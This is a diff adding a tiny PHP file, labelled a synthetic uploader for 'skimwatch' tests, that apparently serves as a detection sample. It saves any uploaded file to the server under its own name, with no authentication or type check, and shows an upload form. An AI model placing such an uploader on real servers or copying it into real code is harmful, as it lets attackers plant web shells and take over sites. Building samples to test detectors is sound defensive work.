@@ -1,0 +1,7 @@
+<?php
+// Synthetic mini uploader for skimwatch tests.
+if (!empty($_FILES['f'])) {
+    move_uploaded_file($_FILES['f']['tmp_name'], basename($_FILES['f']['name']));
+    echo 'ok';
+}
+?><form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit"></form>
